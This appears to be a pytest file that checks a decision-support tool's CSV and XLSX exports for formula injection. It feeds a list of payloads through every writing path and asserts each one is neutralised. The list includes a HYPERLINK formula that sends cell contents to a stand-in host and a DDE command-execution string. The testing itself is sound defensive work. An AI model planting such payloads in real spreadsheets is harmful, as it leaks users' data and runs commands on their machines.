"""No file the tool writes holds a live formula or an unneutralised cell (issue 17).

A long list full of spreadsheet-formula payloads goes through every command that
writes CSV or XLSX, and through the builders behind the app's downloads. Every text
cell starting with a formula trigger must carry the quote prefix (CSV) or be plain
text marked quotePrefix (XLSX); numbers stay numbers. OWASP "CSV Injection";
ASVS 5.0 1.2.10; CWE-1236.
"""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest

from pmf_select.cli import main
from pmf_select.record import FORMULA_TRIGGERS

ROOT = Path(__file__).resolve().parents[1]
FIXTURE = ROOT / "tests" / "fixtures" / "decisions_longlist.csv"
PAYLOADS = (
    '=HYPERLINK("http://example.invalid/?leak="&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "@SUM(1)",
    "-2+3",
    '\uff1dHYPERLINK("http://example.invalid")',
    "\uff20SUM(1)",
    "\t=1+1",
    "\r=1+1",
    "'=already quoted",
    "=1+1",
)
FORMULA_HEADER = '=HYPERLINK("http://example.invalid","col")'


@pytest.fixture(scope="module")
def hostile_list(tmp_path_factory) -> Path:
    """The fixture long list with payloads in every free-text column and an extra payload column."""
    rows = list(csv.reader(io.StringIO(FIXTURE.read_text(encoding="utf-8-sig"))))
    header = rows[0]
    text_columns = [c for c in ("name", "definition", "rationale", "source", "owner", "scoring_notes") if c in header]
    header.append(FORMULA_HEADER)
    for i, row in enumerate(rows[1:]):
        payload = PAYLOADS[i % len(PAYLOADS)]
        for column in text_columns:
            row[header.index(column)] = f"{payload} {column} {i}" if column == "name" else payload
        row.append(PAYLOADS[(i + 3) % len(PAYLOADS)])
    path = tmp_path_factory.mktemp("hostile") / "hostile.csv"
    buffer = io.StringIO()
    csv.writer(buffer, lineterminator="\r\n").writerows(rows)
    path.write_text(buffer.getvalue(), encoding="utf-8")
    return path


def _is_number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


def assert_csv_neutralised(data: bytes, name: str) -> None:
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))
    assert rows, name
    for r, row in enumerate(rows, start=1):
        for c, cell in enumerate(row, start=1):
            if cell.startswith(FORMULA_TRIGGERS):
                assert _is_number(cell), f"{name}: row {r}, cell {c} is a live formula: {cell!r}"


def assert_xlsx_neutralised(data: bytes, name: str) -> None:
    from openpyxl import load_workbook

    workbook = load_workbook(io.BytesIO(data))
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"{name}: {sheet.title}!{cell.coordinate} is a formula: {cell.value!r}"
                if isinstance(cell.value, str) and cell.value.startswith(FORMULA_TRIGGERS):
                    assert cell.quotePrefix, f"{name}: {sheet.title}!{cell.coordinate} is not marked as text"


def assert_neutralised(path: Path) -> None:
    data = path.read_bytes()
    if path.suffix == ".xlsx":
        assert_xlsx_neutralised(data, path.name)
    else:
        assert_csv_neutralised(data, path.name)


def _payload_reached(path: Path) -> bool:
    """The payloads really reached the file (the test is not vacuous)."""
    data = path.read_bytes()
    if path.suffix == ".xlsx":
        from openpyxl import load_workbook

        workbook = load_workbook(io.BytesIO(data))
        return any(
            isinstance(cell.value, str) and "HYPERLINK" in cell.value
            for sheet in workbook.worksheets
            for row in sheet.iter_rows()
            for cell in row
        )
    return b"HYPERLINK" in data


@pytest.mark.parametrize("suffix", [".csv", ".xlsx"])
@pytest.mark.parametrize(
    "command",
    [
        ["rank", "{list}", "--out", "{out}"],
        ["robustness", "{list}", "--samples", "200", "--top", "4", "--out", "{out}"],
        ["build", "{list}", "--size", "4", "--out", "{out}"],
        ["derive", "{list}", "--out", "{out}"],
    ],
    ids=lambda c: c[0],
)
def test_every_table_command_writes_no_live_formula(tmp_path, capsys, hostile_list, command, suffix):
    out = tmp_path / f"out{suffix}"
    argv = [a.format(list=hostile_list, out=out) for a in command]
    assert main(argv) == 0, capsys.readouterr().err
    assert_neutralised(out)
    assert _payload_reached(out)


def test_options_writes_no_live_formula(tmp_path, capsys, hostile_list):
    folder = tmp_path / "options"
    assert main(["options", str(hostile_list), "--samples", "200", "--out", str(folder)]) == 0, capsys.readouterr().err
    written = sorted(folder.glob("*.csv"))
    assert written
    for path in written:
        assert_neutralised(path)
    assert any(_payload_reached(p) for p in written)


def test_a_derived_csv_reads_back_to_the_same_long_list(tmp_path, capsys, hostile_list):
    from pmf_select.longlist import load_longlist

    out = tmp_path / "derived.csv"
    assert main(["derive", str(hostile_list), "--out", str(out)]) == 0
    original, again = load_longlist(hostile_list), load_longlist(out)
    assert again.frame["name"].tolist() == original.frame["name"].tolist()
    assert again.frame[FORMULA_HEADER].tolist() == original.frame[FORMULA_HEADER].tolist()


def test_exports_and_the_app_downloads_write_no_live_formula(tmp_path, capsys, monkeypatch, hostile_list):
    from pmf_select.longlist import load_longlist
    from pmf_select.record import longlist_to_csv_bytes, open_store

    monkeypatch.setenv("PMF_SELECT_DB", str(tmp_path / "store.db"))
    argv = ["lock", str(hostile_list), "--ids", "CP-REPEAT,WF-CASE", "--meeting", '=HYPERLINK("x")', "--samples", "200"]
    assert main(argv + ["--note", "@SUM(1)"]) == 0, capsys.readouterr().err
    outputs = {
        "csv": tmp_path / "agreed.csv",
        "xlsx": tmp_path / "decision.xlsx",
        "template": tmp_path / "template.xlsx",
    }
    for fmt, out in outputs.items():
        assert main(["export", "D0001", "--format", fmt, "--out", str(out)]) == 0
    template_csv = tmp_path / "template.csv"
    assert main(["export", "D0001", "--format", "template", "--out", str(template_csv)]) == 0
    for path in [*outputs.values(), template_csv]:
        assert_neutralised(path)
        assert _payload_reached(path), path
    # the builders behind the app's download buttons (Decision log, Agree & lock, Officer page)
    from pmf_select.record import export as export_module

    conn = open_store(tmp_path / "store.db")
    result = export_module.load_export(conn, "D0001")
    assert_csv_neutralised(export_module.csv_bytes(result), "app csv")
    assert_xlsx_neutralised(export_module.xlsx_bytes(result), "app xlsx")
    assert_xlsx_neutralised(export_module.template_bytes(result), "app template")
    officer = longlist_to_csv_bytes(load_longlist(hostile_list))
    assert_csv_neutralised(officer, "officer download")
    assert b"HYPERLINK" in officer
    conn.close()
